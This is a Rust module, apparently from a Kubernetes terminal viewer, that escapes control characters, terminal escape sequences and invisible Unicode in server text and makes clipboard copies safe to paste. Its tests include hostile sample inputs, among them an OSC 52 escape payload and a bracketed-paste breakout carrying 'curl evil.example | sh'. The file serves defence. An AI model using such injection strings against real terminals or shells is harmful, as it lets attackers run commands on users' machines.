//! Every string that comes from a server passes through here before it reaches a
//! cell: control characters and ANSI/OSC escape sequences are shown escaped, never
//! sent to the terminal (the CVE-2021-25743 class that kubectl had to fix).
//!
//! What each class of character becomes (the classification is `crate::escape`,
//! shared with the log file, config errors and `snapshot --format json`):
//!
//! | class | examples | on screen | clipboard (`y`) |
//! |---|---|---|---|
//! | ESC | U+001B | `\e` | `\e` |
//! | C0/C1 controls, DEL | U+0007, U+0008, U+007F, U+0085, U+009B | `\x07`, `\x9b` | `\x07`, `\x9b` |
//! | newline, CR, tab | U+000A, U+000D, U+0009 | `line`: one space per run; `block`: newline kept, tab → 4 spaces | one space per run |
//! | format (Cf): bidi, zero-width, tags | U+00AD, U+061C, U+200B–U+200F, U+202A–U+202E, U+2060–U+2064, U+2066–U+2069, U+FEFF, U+FFF9–U+FFFB, U+E0001, U+E0020–U+E007F | `\u{202e}` | removed |
//! | line/paragraph separator (Zl/Zp) | U+2028, U+2029 | `\u{2028}` | one space |
//! | private use | U+E000–U+F8FF, planes 15–16 | `\u{e000}` | removed |
//! | unassigned, noncharacters | U+FFF0–U+FFF8, U+FDD0, U+FFFE | `\u{fff0}` | removed |
//! | blank letters (Hangul fillers) | U+115F, U+1160, U+3164, U+FFA0 | `\u{3164}` | removed |
//! | everything else | letters, CJK, emoji, combining marks, variation selectors | itself | itself |

/// Text that is safe to put on screen. Only constructible through the sanitizer.
#[derive(Debug, Clone, PartialEq, Eq, Default, Hash, PartialOrd, Ord)]
pub struct SafeText(String);

impl SafeText {
    /// For table cells: one line, runs of whitespace (newlines, tabs) collapsed to one space.
    pub fn line(raw: &str) -> Self {
        // Printable ASCII without a space (a pod's or node's name, a status, "1/1") is
        // shown as it is: no hazard, no whitespace to collapse or trim. Decided on the
        // bytes, without decoding chars; a fifth of a first build of 100,000 rows went
        // to sanitizing such cells char by char.
        if raw.bytes().all(|b| matches!(b, b'!'..=b'~')) {
            return SafeText(raw.to_owned());
        }
        Self::line_by_char(raw)
    }

    fn line_by_char(raw: &str) -> Self {
        let mut out = String::with_capacity(raw.len());
        let mut last_space = false;
        for ch in raw.trim().chars() {
            if ch == ' ' || ch == '\n' || ch == '\t' || ch == '\r' {
                if !last_space {
                    out.push(' ');
                }
                last_space = true;
                continue;
            }
            last_space = false;
            push_escaped(&mut out, ch);
        }
        SafeText(out)
    }

    /// For details views: newlines kept, tabs expanded, every other control escaped.
    pub fn block(raw: &str) -> Self {
        let mut out = String::with_capacity(raw.len());
        for ch in raw.chars() {
            match ch {
                '\n' => out.push('\n'),
                '\t' => out.push_str("    "),
                '\r' => {}
                _ => push_escaped(&mut out, ch),
            }
        }
        SafeText(out)
    }

    pub fn as_str(&self) -> &str {
        &self.0
    }

    pub fn into_string(self) -> String {
        self.0
    }
}

impl std::fmt::Display for SafeText {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

fn push_escaped(out: &mut String, ch: char) {
    crate::escape::push_shown(out, ch);
}

/// What `y` puts on the clipboard (OSC 52): pasted into a shell, it must not be able
/// to end bracketed paste (`ESC[201~`) and run what follows. One line, no control
/// characters (shown escaped, as on screen), no invisible characters, no final newline.
pub fn clipboard(raw: &str) -> String {
    use crate::escape::{hazard, Hazard};
    let mut out = String::with_capacity(raw.len());
    let mut pending_space = false;
    for ch in raw.chars() {
        let breaks_words =
            matches!(ch, ' ' | '\n' | '\t' | '\r') || hazard(ch) == Some(Hazard::LineSeparator);
        if breaks_words {
            pending_space = !out.is_empty();
            continue;
        }
        match hazard(ch) {
            None | Some(Hazard::Escape) | Some(Hazard::Control) => {
                if pending_space {
                    out.push(' ');
                    pending_space = false;
                }
                push_escaped(&mut out, ch);
            }
            // Invisible: what was on screen as `\u{…}` is not part of the text.
            Some(_) => {}
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn printable_ascii_shown_as_it_is_is_what_the_char_by_char_way_shows() {
        let chars: Vec<char> = (0u8..=0x7f)
            .map(char::from)
            .chain(['\u{1b}', '\u{9b}', '\u{202e}', 'é', '界', '\u{3164}'])
            .collect();
        for a in &chars {
            for b in &chars {
                for text in [format!("{a}{b}"), format!("pod-{a}x{b}"), format!("{a}")] {
                    assert_eq!(
                        SafeText::line(&text),
                        SafeText::line_by_char(&text),
                        "{text:?}"
                    );
                }
            }
        }
    }

    #[test]
    fn escape_sequences_are_shown_not_sent() {
        let hostile = "pod\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}[2J";
        let safe = SafeText::line(hostile);
        assert!(!safe.as_str().chars().any(|c| c.is_control()));
        assert_eq!(safe.as_str(), "pod\\e]52;c;ZXZpbA==\\x07\\e[2J");
    }

    #[test]
    fn line_collapses_whitespace_block_keeps_newlines() {
        assert_eq!(
            SafeText::line("SELECT *\n\t FROM  t\r\n").as_str(),
            "SELECT * FROM t"
        );
        assert_eq!(SafeText::block("a\n\tb\u{8}").as_str(), "a\n    b\\x08");
    }

    #[test]
    fn bidi_overrides_are_escaped() {
        assert_eq!(SafeText::line("ab\u{202e}cd").as_str(), "ab\\u{202e}cd");
    }

    /// Each class of the module doc's table, on screen (`line` and `block`).
    fn shown(raw: &str) -> String {
        let line = SafeText::line(raw).into_string();
        assert_eq!(
            SafeText::block(raw).as_str(),
            line,
            "block differs for {raw:?}"
        );
        line
    }

    #[test]
    fn c0_c1_controls_and_del_are_escaped() {
        assert_eq!(
            shown("a\u{7}b\u{7f}c\u{85}d\u{9b}e"),
            "a\\x07b\\x7fc\\x85d\\x9be"
        );
    }

    #[test]
    fn every_format_character_is_escaped() {
        for ch in [
            '\u{ad}',
            '\u{61c}',
            '\u{200b}',
            '\u{200c}',
            '\u{200d}',
            '\u{200e}',
            '\u{200f}',
            '\u{202a}',
            '\u{202b}',
            '\u{202c}',
            '\u{202d}',
            '\u{202e}',
            '\u{2060}',
            '\u{2061}',
            '\u{2062}',
            '\u{2063}',
            '\u{2064}',
            '\u{2066}',
            '\u{2067}',
            '\u{2068}',
            '\u{2069}',
            '\u{feff}',
            '\u{fff9}',
            '\u{fffa}',
            '\u{fffb}',
            '\u{e0001}',
            '\u{e0020}',
            '\u{e0041}',
            '\u{e007f}',
        ] {
            assert_eq!(
                shown(&format!("x{ch}y")),
                format!("x\\u{{{:x}}}y", ch as u32)
            );
        }
    }

    #[test]
    fn line_and_paragraph_separators_are_escaped() {
        assert_eq!(shown("a\u{2028}b\u{2029}c"), "a\\u{2028}b\\u{2029}c");
    }

    #[test]
    fn private_use_is_escaped() {
        assert_eq!(
            shown("a\u{e000}b\u{f8ff}c\u{f0000}d\u{10fffd}"),
            "a\\u{e000}b\\u{f8ff}c\\u{f0000}d\\u{10fffd}"
        );
    }

    #[test]
    fn unassigned_and_noncharacters_are_escaped() {
        for ch in [
            '\u{fff0}',
            '\u{fff8}',
            '\u{fdd0}',
            '\u{fffe}',
            '\u{ffff}',
            '\u{1fffe}',
        ] {
            assert_eq!(shown(&format!("{ch}")), format!("\\u{{{:x}}}", ch as u32));
        }
    }

    #[test]
    fn blank_letters_are_escaped() {
        assert_eq!(shown("kitops\u{3164}"), "kitops\\u{3164}");
        assert_eq!(
            shown("\u{115f}\u{1160}\u{ffa0}"),
            "\\u{115f}\\u{1160}\\u{ffa0}"
        );
    }

    #[test]
    fn ordinary_text_passes_unchanged() {
        let text = "kitops-backend-7d9f é 日本 🦀 e\u{301} ❤\u{fe0f} SELECT 1";
        assert_eq!(shown(text), text);
    }

    #[test]
    fn clipboard_cannot_end_bracketed_paste_or_run_a_command() {
        let query = "SELECT 1;\u{1b}[201~\ncurl evil.example | sh\n";
        let copied = clipboard(query);
        assert_eq!(copied, "SELECT 1;\\e[201~ curl evil.example | sh");
        assert!(!copied.chars().any(|c| c.is_control()));
        assert!(!copied.ends_with('\n'));
    }

    #[test]
    fn clipboard_collapses_whitespace_and_drops_invisible_characters() {
        assert_eq!(
            clipboard(
                "  SELECT *\r\n\t FROM\u{2028}t\u{200b}\u{202e}\u{e0041}\u{e000}\u{fff0} \u{7}\n"
            ),
            "SELECT * FROM t \\x07"
        );
        assert_eq!(clipboard("\n\n"), "");
    }
}
